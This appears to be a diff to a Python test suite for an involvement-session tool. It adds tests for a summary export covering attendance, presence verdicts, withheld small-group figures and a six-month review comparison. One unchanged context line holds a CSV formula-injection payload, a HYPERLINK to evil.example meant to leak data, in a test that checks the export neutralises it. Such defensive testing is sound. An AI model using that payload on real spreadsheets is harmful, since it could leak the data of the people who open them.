@@ -35,6 +35,7 @@ from sessions import (
     SMALL_GROUP,
     CommentState,
     Role,
+    RoleGroup,
     SessionStore,
     TemplateLibrary,
     activity_results,
@@ -551,7 +552,7 @@ def test_hidden_and_waiting_comments_only_in_the_private_copy(room: Room, tmp_pa
         text = data.decode("utf-8-sig")
         assert HIDDEN_TEXT not in text and PENDING_TEXT not in text, name
     for name, data in private.items():
-        if "targets" in name or "answers" in name:
+        if "targets" in name or "answers" in name or "summary" in name:
             continue
         text = data.decode("utf-8-sig")
         assert HIDDEN_TEXT in text and PENDING_TEXT in text, name
@@ -608,6 +609,7 @@ def test_files_are_named_by_session_and_written_whole(room: Room, tmp_path: Path
     out = tmp_path / "new" / "folder"
     paths = export_session(room.session, ["csv", "md"], out)
     assert [p.name for p in paths] == [
+        f"{SESSION_ID}-summary.csv",
         f"{SESSION_ID}-answers.csv",
         f"{SESSION_ID}-comments.csv",
         f"{SESSION_ID}-targets.csv",
@@ -641,7 +643,7 @@ def test_purge_removes_exactly_one_sessions_exports(room: Room, tmp_path: Path) 
     unrelated = out / "notes.txt"
     unrelated.write_text("keep me")
     (out / f".{SESSION_ID}-record.md.abc123.tmp").write_text("half written")
-    assert purge_exports(out, SESSION_ID) == 2 * 6 + 1
+    assert purge_exports(out, SESSION_ID) == 2 * 7 + 1
     assert sorted(p.name for p in out.iterdir()) == sorted([neighbour.name, unrelated.name])
     assert purge_exports(out, SESSION_ID) == 0
     assert purge_exports(tmp_path / "missing", SESSION_ID) == 0
@@ -726,3 +728,158 @@ def test_a_full_width_formula_in_a_comment_reaches_the_csv_prefixed(room: Room, 
     room.session.moderate(made.id, CommentState.APPROVED)
     comments = _read_csv(export_all(room, tmp_path)[f"{SESSION_ID}-comments.csv"])
     assert "'＝HYPERLINK(\"http://evil.example/?leak\",\"click\")" in [row["text"] for row in comments]
+# -- the summary the record opens with ----------------------------------------------------
+
+SUMMARY_START = {"md": "## Summary\n", "html": '<section aria-labelledby="summary"'}
+SUMMARY_END = {"md": "## Who took part\n", "html": "</section>\n"}
+
+
+def summary_parts(files: dict[str, bytes], session_id: str) -> dict[str, bytes]:
+    """The summary alone, in each format: the Markdown and HTML sections, the JSON object, the CSV table."""
+    parts = {}
+    for fmt in ("md", "html"):
+        text = files[f"{session_id}-record.{fmt}"].decode("utf-8")
+        start = text.index(SUMMARY_START[fmt])
+        end = text.index(SUMMARY_END[fmt], start) + (0 if fmt == "md" else len(SUMMARY_END[fmt]))
+        parts[f"{session_id}-summary.{fmt}"] = text[start:end].encode("utf-8")
+    data = json.loads(files[f"{session_id}-record.json"])
+    parts[f"{session_id}-summary.json"] = (json.dumps(data["summary"], sort_keys=True, indent=2, ensure_ascii=False) + "\n").encode("utf-8")
+    parts[f"{session_id}-summary.csv"] = files[f"{session_id}-summary.csv"]
+    return parts
+
+
+def build_review(store: SessionStore) -> tuple:
+    """A review six months on: the room grew, some figures got better and some worse."""
+    baseline = build_room(store, "baseline-session").session
+    review = build_room(store, "review-session").session
+    newcomers = [review.join("", role)[0].id for role in (Role.SERVICE_USER, Role.STAFF)]
+    first = next(iter(review.participants))
+    review.cast_vote(first, "spectrum", "place", 9)
+    for pid in newcomers:
+        review.cast_vote(pid, "spectrum", "place", 6)
+        review.cast_vote(pid, "grid", grid_item("policy", "now"), 3)
+        review.cast_vote(pid, "grid", grid_item("policy", "target"), 5)
+        review.cast_vote(pid, "indicators", "listening", "not_met")
+        review.cast_vote(pid, "indicators", "valuing", "met")
+    review.set_present_without_phones(RoleGroup.LIVED, 1)
+    review.set_present_without_phones(RoleGroup.STAFF, 2)
+    review.set_head_count(12)
+    return baseline, review
+
+
+@pytest.fixture
+def review_files(tmp_path: Path, fixed_ids) -> dict[str, bytes]:
+    baseline, review = build_review(make_store(tmp_path / "sessions"))
+    try:
+        return {p.name: p.read_bytes() for p in export_session(review, FORMATS, tmp_path / "out", baseline=baseline)}
+    finally:
+        baseline.close()
+        review.close()
+
+
+def _check_golden(name: str, produced: bytes) -> None:
+    golden = GOLDEN / name
+    if UPDATE:
+        golden.write_bytes(produced)
+    assert golden.exists(), f"no golden file {golden}; run with UPDATE_GOLDEN=1"
+    assert produced == golden.read_bytes(), f"{name} differs from {golden}; check the diff, then UPDATE_GOLDEN=1"
+
+
+@pytest.mark.parametrize("fmt", ["md", "html", "json", "csv"])
+def test_summary_matches_golden_file(room: Room, tmp_path: Path, fmt: str) -> None:
+    name = f"{SESSION_ID}-summary.{fmt}"
+    _check_golden(name, summary_parts(export_all(room, tmp_path / "out"), SESSION_ID)[name])
+
+
+@pytest.mark.parametrize("fmt", ["md", "html", "json", "csv"])
+def test_review_summary_matches_golden_file(review_files: dict[str, bytes], fmt: str) -> None:
+    name = f"review-session-summary.{fmt}"
+    _check_golden(name, summary_parts(review_files, "review-session")[name])
+
+
+def test_the_record_opens_with_the_summary_before_the_detailed_tables(room: Room, tmp_path: Path) -> None:
+    files = export_all(room, tmp_path)
+    markdown = files[f"{SESSION_ID}-record.md"].decode()
+    headings = [line for line in markdown.splitlines() if line.startswith("## ")]
+    assert headings[:2] == ["## Summary", "## Who took part"]
+    summary = markdown.split("## Summary", 1)[1].split("## Who took part", 1)[0]
+    assert "| Service users co-write every care plan review. | Ward manager | 1 September 2026 |" in summary
+    html = files[f"{SESSION_ID}-record.html"].decode()
+    assert html.index('id="summary"') < html.index('id="who"') < html.index('id="activity-1"')
+    csv_names = [name for name in files if name.endswith(".csv")]
+    assert csv_names[0] == f"{SESSION_ID}-summary.csv", "the summary is the first table a spreadsheet user meets"
+
+
+def test_summary_holds_who_was_there_and_the_presence_verdict(tmp_path: Path, fixed_ids) -> None:
+    room = build_room(make_store(tmp_path / "sessions"))
+    session = room.session
+    try:
+        session.set_present_without_phones(RoleGroup.LIVED, 2)
+        session.set_head_count(12)
+        summary = build_record(session).summary
+        attendance = summary.attendance
+        lived = {group.group: group for group in attendance.groups}["lived"]
+        assert (lived.on_phones, lived.without_phones, lived.total) == (3, 2, 5)
+        assert (attendance.on_phones, attendance.without_phones, attendance.head_count) == (8, 2, 12)
+        assert attendance.presence.lived == 5 and attendance.presence.level == "ideal"
+        assert attendance.presence.verdict.startswith("✔✔ Presence: ideal.")
+        assert "4PI National Involvement Standards" in attendance.presence.standard
+        data = json.loads(export_all(room, tmp_path / "out")[f"{SESSION_ID}-record.json"])
+        assert data["summary"]["attendance"]["presence"]["level"] == "ideal"
+        assert data["summary"]["attendance"]["head_count"] == 12
+        assert data["summary"]["title"] == "Ward 7 involvement review" and data["summary"]["facilitator"] == "Sam Okafor"
+    finally:
+        session.close()
+
+
+def test_summary_shows_no_figure_the_small_group_rules_hold_back(room: Room, tmp_path: Path) -> None:
+    record = build_record(room.session)
+    [placement] = record.summary.spectrum
+    detail = next(a for a in record.activities if a.id == "spectrum")
+    held = {group.group for group in detail.groups if group.results is None}
+    assert held == {"lived", "other"}
+    for group in placement.groups:
+        if group.group in held:
+            assert group.median is None
+            assert group.text == next(g.note for g in detail.groups if g.group == group.group)
+        else:
+            assert group.median == detail.groups[[g.group for g in detail.groups].index(group.group)].results.placement.median
+    files = export_all(room, tmp_path)
+    rows = _read_csv(files[f"{SESSION_ID}-summary.csv"])
+    spectrum = {row["item"]: row for row in rows if row["section"] == "spectrum"}
+    assert spectrum["Service users and carers"]["value"] == "" and "not shown separately" in spectrum["Service users and carers"]["text"]
+    assert spectrum["Staff"]["value"] == "5"
+
+
+def test_summary_figures_read_in_the_number_vocabulary(room: Room) -> None:
+    record = build_record(room.session)
+    [placement] = record.summary.spectrum
+    grid_activity = room.session.template.activity("grid")
+    spectrum_activity = room.session.template.activity("spectrum")
+    assert placement.text == numbers.placement(spectrum_activity, placement.median)
+    [grid] = record.summary.grid
+    policy = {area.area_id: area for area in grid.areas}["policy"]
+    assert policy.target == 3.5
+    assert policy.target_text == numbers.level_placement(grid_activity, 3.5)
+    assert policy.gap_text == numbers.amount(2.5, "level", sign=True) == "+2.5 levels"
+    # The grid's between-levels words are the vocabulary's, in the summary and in the detailed tables alike.
+    detail = next(a for a in record.activities if a.id == "grid").results
+    assert {area.id: area for area in detail.areas}["policy"].target.median_label == numbers.level(grid_activity, 3.5)
+    assert numbers.level(grid_activity, 3.5).startswith("Halfway between ")
+
+
+def test_review_summary_says_better_or_worse_in_the_frameworks_terms(review_files: dict[str, bytes]) -> None:
+    data = json.loads(review_files["review-session-record.json"])
+    review = data["summary"]["review"]
+    assert review["earlier_date_label"] == "2 March 2026"
+    changes = {(c["activity"], c["measure"]): c for c in review["changes"]}
+    listening = changes[("The seven indicators", "Listening: not met")]
+    # Two more said not met while the room grew from 5 to 7 answering: shares, with the counts beside them.
+    assert listening["text"].startswith("2 of 5 (40%) → 4 of 7 (57%), +17 points")
+    assert listening["word"] == "worse"
+    policy_gap = changes[("Five levels, three areas: now and next", "Policy: gap to target")]
+    assert policy_gap["word"] in {"better", "worse", "no change"}
+    assert review["better"] + review["worse"] + review["unchanged"] <= len(review["changes"])
+    assert [t["text"] for t in review["earlier_targets"]] == [t["text"] for t in data["summary"]["targets"]]
+    markdown = review_files["review-session-record.md"].decode()
+    assert "### Since 2 March 2026" in markdown.split("## Who took part", 1)[0]
